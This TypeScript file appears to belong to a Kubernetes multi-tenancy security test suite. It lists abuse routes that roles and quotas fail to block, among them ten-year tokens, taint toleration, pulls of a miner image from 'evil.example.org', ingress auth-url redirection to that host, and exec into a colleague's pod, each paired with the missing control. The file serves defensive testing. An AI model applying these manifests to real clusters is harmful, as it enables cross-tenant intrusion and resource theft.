import { type OpenRoute, type Target, BLUE } from '../battery/attack';
import { create, createAt, patch } from '../battery/calls';
import { WORKERS } from '../battery/people';
import {
  type Part,
  claim,
  container,
  deployment,
  exactly,
  ingress,
  pod,
  service,
  volumeClaim,
} from './drafts';
import type { Draft } from '../battery/calls';

const DRA: Target = { tenant: 'dra', namespace: 'lab-dra' };

const pods = (route: string, what: string, spec: Part, missing: string): OpenRoute => ({
  route,
  what,
  call: create('pods', pod(spec)),
  by: WORKERS,
  missing,
});

const PODS = 'an admission policy on pods';

/**
 * What roles, quotas and pod security cannot stop. Each is tried, and must succeed: when something
 * begins to stop it, its place is among the attacks.
 */
export const OPEN_ROUTES: readonly OpenRoute[] = [
  {
    route: 'E17',
    what: 'get a token that never ends by a secret',
    call: create('secrets', {
      metadata: { annotations: { 'kubernetes.io/service-account.name': 'default' } },
      type: 'kubernetes.io/service-account-token',
    } as Draft),
    by: WORKERS,
    missing: 'an admission policy on the type of secrets',
  },
  pods(
    'E16',
    'ask for a token of ten years in a pod',
    {
      volumes: [
        {
          name: 'token',
          projected: {
            sources: [{ serviceAccountToken: { path: 't', expirationSeconds: 315360000 } }],
          },
        },
      ],
    },
    'an admission policy on projected tokens',
  ),
  pods('E19', 'run as any service account', { serviceAccountName: 'default' }, PODS),
  pods('E33', 'choose the node past the scheduler', { nodeName: 'reserved-0' }, PODS),
  pods(
    'E34',
    'tolerate every taint',
    { tolerations: [{ operator: 'Exists' }] },
    'an admission policy with a list of tolerations',
  ),
  pods(
    'E81',
    'take a GPU node without a GPU',
    { tolerations: [{ key: 'nvidia.com/gpu', operator: 'Exists' }] },
    'an admission policy that asks for a GPU request beside the toleration',
  ),
  pods('E35', 'choose the nodes of others', { nodeSelector: { pool: 'green' } }, PODS),
  pods(
    'E35',
    'keep the pods of all tenants off a node',
    {
      affinity: {
        podAntiAffinity: {
          requiredDuringSchedulingIgnoredDuringExecution: [
            { topologyKey: 'kubernetes.io/hostname', labelSelector: {}, namespaceSelector: {} },
          ],
        },
      },
    },
    'a quota of pods: "0" with the scope CrossNamespacePodAffinity',
  ),
  pods(
    'E65',
    'take the huge pages of a node',
    {
      containers: [
        container({
          resources: { limits: { 'hugepages-2Mi': '64Gi', memory: '1Gi', cpu: '1' } },
        }),
      ],
    },
    'zeros for requests.hugepages-2Mi and requests.hugepages-1Gi, unless granted',
  ),
  pods('E36', 'choose a runtime', { runtimeClassName: 'gvisor' }, PODS),
  pods('E37', 'choose a scheduler', { schedulerName: 'mine' }, PODS),
  pods(
    'E40',
    'run an image that another tenant pulled',
    {
      containers: [
        container({ image: 'registry.example.com/green/secret:1', imagePullPolicy: 'Never' }),
      ],
    },
    'an admission policy on the pull policy',
  ),
  pods(
    'E41',
    'run an image from anywhere',
    { containers: [container({ image: 'evil.example.org/miner:latest' })] },
    'an admission policy with a list of registries',
  ),
  pods('E42', 'be root on the node after an escape', { hostUsers: true }, PODS),
  pods(
    'E79',
    'see all GPUs of a node by a variable',
    { containers: [container({ env: [{ name: 'NVIDIA_VISIBLE_DEVICES', value: 'all' }] })] },
    'an admission policy on that variable',
  ),
  pods(
    'E64',
    'fill the disk of a node',
    { volumes: [{ name: 'scratch', emptyDir: {} }] },
    'an admission policy that asks for a sizeLimit',
  ),
  pods(
    'E63',
    'mount by a driver with attributes of one’s own',
    { volumes: [{ name: 'v', csi: { driver: 'any.example.com', volumeAttributes: { a: 'b' } } }] },
    'an admission policy with a list of drivers',
  ),
  {
    route: 'E63',
    what: 'mount a share by its address',
    call: create(
      'pods',
      pod({ volumes: [{ name: 'nfs', nfs: { server: '10.0.0.1', path: '/' } }] }),
    ),
    by: WORKERS,
    missing: 'podSecurity: restricted, or an admission policy on kinds of volumes',
  },
  {
    route: 'E53',
    what: 'take traffic by external addresses',
    call: create('services', service({ externalIPs: ['10.96.0.10'] })),
    by: WORKERS,
    missing: 'an admission policy on externalIPs',
  },
  {
    route: 'E54',
    what: 'lead a trusted proxy elsewhere by a name',
    call: create('services', {
      spec: { type: 'ExternalName', externalName: 'db.lab-green-dev.svc.cluster.local' },
    }),
    by: WORKERS,
    missing: 'an admission policy on ExternalName',
  },
  {
    route: 'E56',
    what: 'take the host of another tenant',
    call: create('ingresses', ingress({ rules: undefined, defaultBackend: BACKEND() })),
    by: WORKERS,
    missing: 'an admission policy with a list of hosts',
  },
  {
    route: 'E57',
    what: 'configure the proxy by an annotation',
    call: create(
      'ingresses',
      ingress(
        {},
        { annotations: { 'nginx.ingress.kubernetes.io/auth-url': 'http://evil.example.org' } },
      ),
    ),
    by: WORKERS,
    missing: 'an admission policy on annotations of ingresses',
  },
  {
    route: 'E61',
    what: 'bind a volume of somebody else',
    call: create('persistentvolumeclaims', volumeClaim('1Gi', { volumeName: 'released' })),
    by: WORKERS,
    missing: 'an admission policy on volumeName',
  },
  {
    route: 'E62',
    what: 'use a costly class of storage',
    call: create('persistentvolumeclaims', volumeClaim('1Gi', { storageClassName: 'costly' })),
    by: WORKERS,
    missing: 'a list of storage classes',
  },
  {
    route: 'E68',
    what: 'keep any number of replica sets as the history of a deployment',
    call: create('deployments', deployment({}, { replicas: 0, revisionHistoryLimit: 1000000 })),
    by: WORKERS,
    missing: 'a generous cap of count/replicasets.apps, or an admission policy on the history',
  },
  {
    route: 'E69',
    what: 'keep finished jobs for ever',
    call: create('jobs', {
      spec: { suspend: true, template: { spec: { restartPolicy: 'Never', ...pod().spec! } } },
    }),
    by: WORKERS,
    missing: 'an admission policy on ttlSecondsAfterFinished',
  },
  {
    route: 'E74',
    what: 'keep a namespace from being deleted',
    call: create('configmaps', { metadata: { finalizers: ['example.com/never'] } }),
    by: WORKERS,
    missing: 'nothing: named in the runbook for leaving tenants',
  },
  {
    route: 'E77',
    what: 'ask for alternatives of a granted class',
    call: create('resourceclaims', claim(exactly('gpu.amd.com', { count: 1 }))),
    by: WORKERS,
    target: DRA,
    missing: 'nothing: a claim within the grant',
  },
  {
    route: 'E92',
    what: 'label pods so that others pay',
    call: create('pods', pod({}, { labels: { tenant: 'green', 'cost-center': 'ENG-002' } })),
    by: WORKERS,
    missing: 'nothing where costs are taken from namespaces; an admission policy elsewhere',
  },
  {
    route: 'E20',
    what: 'change a colleague’s work',
    call: patch('deployments/target', { spec: { replicas: 0 } }),
    by: ['user'],
    target: BLUE,
    missing: 'an admission policy that compares the caller with the creator',
  },
  {
    route: 'E21',
    what: 'run a command in a colleague’s pod',
    call: {
      ...createAt('pods/target/exec', undefined),
      path: '/api/v1/namespaces/{ns}/pods/target/exec?command=id&stdout=true',
      connects: true,
    },
    by: WORKERS,
    missing: 'nothing: one namespace is one level of trust',
  },
];

function BACKEND(): Part {
  return { service: { name: 'web', port: { number: 80 } } };
}
